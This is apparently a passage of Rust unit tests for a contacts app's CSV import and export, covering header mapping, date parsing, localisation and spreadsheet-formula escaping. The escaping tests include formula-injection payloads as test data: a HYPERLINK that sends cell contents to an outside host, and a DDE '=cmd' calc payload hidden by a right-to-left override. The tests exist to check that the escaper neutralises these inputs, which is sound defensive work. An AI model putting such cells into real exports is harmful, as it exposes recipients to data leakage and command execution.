        assert_eq!(recognise("Skostørrelse", false), CsvField::Ignore);
    }

    #[test]
    fn legacy_google_headers_are_read() {
        let text = "Name,Given Name,Family Name,Group Membership,E-mail 1 - Type,E-mail 1 - Value,\
                    Organization 1 - Name,Organization 1 - Title,Birthday\n\
                    Jonas Holm,Jonas,Holm,* My Contacts ::: Partners,* Work,jonas@holm.example,Holm Rådgivning,Partner,1979-10-05\n";
        let (parsed, header) = decode(text.as_bytes(), &options("en")).expect("csv");
        assert_eq!(header.exporter, Some("Google Contacts"));
        let jonas = &parsed.people[0].person;
        assert_eq!(
            (jonas.name.as_str(), parsed.people[0].organisation.as_str(), jonas.role.as_str()),
            ("Jonas Holm", "Holm Rådgivning", "Partner")
        );
        assert_eq!(jonas.contact.emails, vec![Labelled { label: "work".into(), value: "jonas@holm.example".into() }]);
        assert_eq!(jonas.tags, ["Partners"]);
        assert_eq!(jonas.milestones[0].date, PartialDate::ymd(1979, 10, 5).expect("d"));
    }

    #[test]
    fn dates_in_every_form() {
        let ymd = |y, m, d| PartialDate::ymd(y, m, d).map(|d| (d, false));
        assert_eq!(parse_date("1980-04-15", DateOrder::DayFirst), Ok(ymd(1980, 4, 15)));
        assert_eq!(parse_date("15-04-1980", DateOrder::MonthFirst), Ok(ymd(1980, 4, 15)));
        assert_eq!(parse_date("15.04.1980", DateOrder::MonthFirst), Ok(ymd(1980, 4, 15)));
        assert_eq!(parse_date("12/28/1969", DateOrder::DayFirst), Ok(ymd(1969, 12, 28)));
        assert_eq!(parse_date("3/4/1980", DateOrder::MonthFirst), Ok(PartialDate::ymd(1980, 3, 4).map(|d| (d, true))));
        assert_eq!(parse_date("3/4/1980", DateOrder::DayFirst), Ok(PartialDate::ymd(1980, 4, 3).map(|d| (d, true))));
        assert_eq!(parse_date("--07-01", DateOrder::DayFirst), Ok(PartialDate::md(7, 1).map(|d| (d, false))));
        assert_eq!(parse_date("15.04.", DateOrder::DayFirst), Ok(PartialDate::md(4, 15).map(|d| (d, false))));
        assert_eq!(parse_date("0/0/00", DateOrder::MonthFirst), Ok(None));
        assert_eq!(parse_date("30.02.1980", DateOrder::DayFirst), Err(NotADate));
        assert_eq!(parse_date("someday", DateOrder::DayFirst), Err(NotADate));
    }

    #[test]
    fn ambiguous_columns_follow_their_proof_then_the_language() {
        let proof = "Name,Birthday\nA,3/4/1980\nB,25/12/1970\n";
        let (parsed, _) = decode(proof.as_bytes(), &options("en")).expect("csv");
        assert_eq!(parsed.people[0].person.milestones[0].date, PartialDate::ymd(1980, 4, 3).expect("d"));
        assert!(parsed.notes.iter().any(|n| n.contains("prove")), "{:?}", parsed.notes);
        assert!(parsed.people[0].notes[0].contains("either way"));
        let none = "Name,Birthday\nA,3/4/1980\n";
        let (parsed, _) = decode(none.as_bytes(), &options("da")).expect("csv");
        assert_eq!(parsed.people[0].person.milestones[0].date, PartialDate::ymd(1980, 4, 3).expect("d"));
        let (parsed, _) = decode(none.as_bytes(), &options("en")).expect("csv");
        assert_eq!(parsed.people[0].person.milestones[0].date, PartialDate::ymd(1980, 3, 4).expect("d"));
        assert!(parsed.notes.iter().any(|n| n.contains("language (en)")), "{:?}", parsed.notes);
    }

    #[test]
    fn unknown_headers_need_a_mapping_which_is_then_used() {
        let text = "Kunde;Skostørrelse\nMette;38\n";
        let error = decode(text.as_bytes(), &options("da")).expect_err("no name column");
        assert!(error.contains("Kunde"), "{error}");
        let mapping = [CsvField::Name, CsvField::Ignore];
        let (parsed, header) =
            decode(text.as_bytes(), &Options { mapping: Some(&mapping), ..options("da") }).expect("mapped");
        assert_eq!(parsed.people[0].person.name, "Mette");
        assert!(parsed.notes.iter().any(|n| n.contains("ignored: Skostørrelse")));
        let remembered = [CsvMapping { headers: header.headers.clone(), fields: mapping.to_vec() }];
        let (parsed, _) = decode(text.as_bytes(), &Options { remembered: &remembered, ..options("da") }).expect("kept");
        assert_eq!(parsed.people.len(), 1);
    }

    #[test]
    fn control_characters_around_a_space_are_no_name() {
        let parsed = decode(b"Name,Organization\n\x01 \x01,\x02 \x02\nAnne,\n", &options("en")).expect("read").0;
        let names: Vec<&str> = parsed.people.iter().map(|p| p.person.name.as_str()).collect();
        assert_eq!(names, ["Anne"]);
        assert_eq!(parsed.skipped.len(), 1, "the blank row is skipped, not imported as \" \"");
    }

    #[test]
    fn rows_without_anyone_are_skipped_and_the_rest_kept() {
        let text = "Name,Notes,Birthday\n,just a note,\nKept,,30/02/1980\n";
        let (parsed, _) = decode(text.as_bytes(), &options("en")).expect("csv");
        assert_eq!(parsed.people.len(), 1);
        assert_eq!(parsed.skipped[0].source, "row 2");
        assert!(parsed.people[0].person.life.notes.contains("30/02/1980"));
        let (crlf, _) = decode(text.replace('\n', "\r\n").as_bytes(), &options("en")).expect("csv");
        assert_eq!(crlf.skipped[0].source, "row 2", "rows are numbered as a spreadsheet shows them");
        assert_eq!(crlf.people[0].source, "row 3");
    }

    #[test]
    fn the_column_picker_and_what_the_reader_notes_follow_the_language() {
        use crate::i18n::{Lang, set_language};
        let text = "Navn;Kaldenavn;Noter;Fødselsdag\n;;bare en note;\nMette Kjærgaard;Mette K;;3/4/1980\n";
        set_language(Lang::Da);
        assert_eq!(field_label(CsvField::Name), "Fulde navn");
        assert_eq!(field_label(CsvField::Ignore), "(ignorér denne kolonne)");
        assert_eq!(field_label(CsvField::KeyAccount), "Nøglekunde (ja/nej)");
        let (parsed, _) = decode(text.as_bytes(), &options("da")).expect("csv");
        assert_eq!(parsed.skipped[0].source, "række 2");
        assert_eq!(parsed.skipped[0].reason, "rækken har hverken navn, organisation eller e-mailadresse");
        assert!(parsed.notes.iter().any(|n| n.ends_with("adskilt af semikoloner")), "{:?}", parsed.notes);
        assert!(
            parsed
                .notes
                .iter()
                .any(|n| n.contains("“Fødselsdag”") && n.contains("dag først (d/m/åååå) efter sproget (da)")),
            "{:?}",
            parsed.notes
        );
        let mette = &parsed.people[0];
        assert_eq!(mette.source, "række 3");
        assert_eq!(mette.notes, ["Fødselsdag “3/4/1980” kan læses begge veje; læst som 3. april 1980"]);
        assert_eq!(mette.person.life.notes, "Kaldes Mette K", "a note written into the person is in Danish too");
        let error = decode("Kunde;Sko\nA;38\n".as_bytes(), &options("da")).expect_err("no name column");
        assert!(error.starts_with("ingen kolonne kunne genkendes"), "{error}");

        set_language(Lang::Nb);
        assert_eq!(field_label(CsvField::Name), "Fullt navn");
        assert_eq!(field_label(CsvField::Email), "E-post");
        let (parsed, _) = decode(text.as_bytes(), &options("nb")).expect("csv");
        assert_eq!(parsed.skipped[0].source, "rad 2");
        assert_eq!(parsed.skipped[0].reason, "raden har verken navn, organisasjon eller e-postadresse");
        assert_eq!(parsed.people[0].notes, ["Fødselsdag «3/4/1980» kan leses begge veier; lest som 3. april 1980"]);
        assert_eq!(parsed.people[0].person.life.notes, "Kalles Mette K");

        set_language(Lang::En);
        assert_eq!(field_label(CsvField::Name), "Full name");
        let (parsed, _) = decode(text.as_bytes(), &options("da")).expect("csv");
        assert_eq!(parsed.skipped[0].reason, "the row has no name, organisation or e-mail address");
        assert_eq!(parsed.people[0].person.life.notes, "Goes by Mette K");
    }

    #[test]
    fn cells_a_spreadsheet_would_run_get_a_quote_and_read_back_as_they_were() {
        let values = [
            ("=HYPERLINK(\"http://x.example/?\"&A1;\"Click\")", "'=HYPERLINK(\"http://x.example/?\"&A1;\"Click\")"),
            ("+45 20 30 40 50", "'+45 20 30 40 50"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1+2", "'\t'=1+2"),
            ("\r=1+2", "'\r'=1+2"),
            ("\n=1+2", "'\n'=1+2"),
            ("  =1+2", "'  =1+2"),
            ("\"=1+2", "'\"=1+2"),
            ("'=1+2", "''=1+2"),
            ("''+1", "'''+1"),
            // Where a spreadsheet splitting on another separator, or a line break, begins a cell.
            ("Fisker;=HYPERLINK(1)", "Fisker;'=HYPERLINK(1)"),
            ("a, +1 b,c", "a,' +1 b,c"),
            ("Notes\n- one\n- two", "Notes\n'- one\n'- two"),
            ("Ida (daughter, --05-03)", "Ida (daughter,' --05-03)"),
            ("'tis the season", "'tis the season"),
            ("rock,'n roll", "rock,'n roll"),
            ("''", "''"),
            ("Søren =1+2, 3", "Søren =1+2, 3"),
            ("", ""),
        ];
        for (value, written) in values {
            let cell = escape_cell(value);
            assert_eq!(cell, written, "{value:?}");
            assert_eq!(unescape_cell(&cell), value, "{value:?} reads back");
        }
        // Bidirectional formatting is dropped first: it would hide what the cell begins with.
        assert_eq!(escape_cell("\u{202E}=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0");
        assert_eq!(escape_cell("Anne\u{202E}fdp.exe\u{1}"), "Annefdp.exe");
    }

    /// A workspace of `person` in an organisation named `organisation`.
    fn in_organisation(mut person: Person, organisation: &str) -> crate::model::Workspace {
        let organisation = crate::model::Organisation::named(organisation);
        person.organisation = Some(organisation.id);
        crate::model::Workspace { people: vec![person], organisations: vec![organisation], ..Default::default() }
    }

    #[test]
    fn a_cell_is_quoted_for_every_separator_a_spreadsheet_might_use() {
        let mut person = Person::named("Anne Lund");
        person.role = "a,b\tc".into();
        let ws = in_organisation(person, "Bager; =1+2");
        let text = encode(&ws, &ws.people, b',');
        let row = text.lines().nth(1).expect("a row");
        assert!(row.contains(",\"Bager;' =1+2\",\"a,b\tc\","), "{row}");
        let text = encode(&ws, &ws.people, b';');
        assert!(text.lines().nth(1).expect("a row").contains(";\"Bager;' =1+2\";\"a,b\tc\";"), "{text}");
    }

    #[test]
    fn written_rows_read_back() {
        let mut person = Person::named("Søren Østergaard");
        person.contact.emails.push(Labelled { label: String::new(), value: "s@o.example".into() });
        person.contact.emails.push(Labelled { label: String::new(), value: "s2@o.example".into() });
        person.status = Status::Customer;
        person.key_account = true;
        person.milestones.push(milestone(MilestoneKind::Birthday, String::new(), PartialDate::md(2, 29).expect("d")));
        person.milestones.push(milestone(
            MilestoneKind::Custom,
            "Boat".into(),
            PartialDate::ymd(2019, 5, 1).expect("d"),
        ));
        add_relative(&mut person, "Ida", Relation::Daughter, PartialDate::ymd(2015, 5, 3));
        add_relative(&mut person, "Lars", Relation::Spouse, None);
        person.life.notes = "Fisker;\n\"har\" barnebarn".into();
        person.contact.phones.push(Labelled { label: "mobile".into(), value: "+45 20 30 40 50".into() });
        person.role = "=Boss".into();
        let ws = in_organisation(person.clone(), "Østergaard VVS; Fyn");
        for delimiter in [b';', b','] {
            let text = encode(&ws, &ws.people, delimiter);
            assert!(text.starts_with('\u{feff}'));
            let (parsed, _) = decode(text.as_bytes(), &options("da")).expect("csv");
            let back = &parsed.people[0].person;
            assert_eq!(back.name, person.name);
            assert_eq!(parsed.people[0].organisation, "Østergaard VVS; Fyn");
            assert_eq!(back.contact.emails.len(), 2);
            assert_eq!((back.status, back.key_account), (Status::Customer, true));
            assert_eq!(back.life.notes, person.life.notes);
            assert_eq!((back.role.as_str(), back.contact.phones[0].value.as_str()), ("=Boss", "+45 20 30 40 50"));
            assert!(text.contains("'+45 20 30 40 50") && text.contains("'=Boss") && text.contains("'--02-29"));
            let dates =
                |p: &Person| p.milestones.iter().map(|m| (m.kind.clone(), m.date, m.label.clone())).collect::<Vec<_>>();
            assert_eq!(dates(back), dates(&person));
            let family = |p: &Person| {
                p.life.family.iter().map(|m| (m.name.clone(), m.relation.clone(), m.birthday)).collect::<Vec<_>>()
            };
            assert_eq!(family(back), family(&person));
        }
    }
}
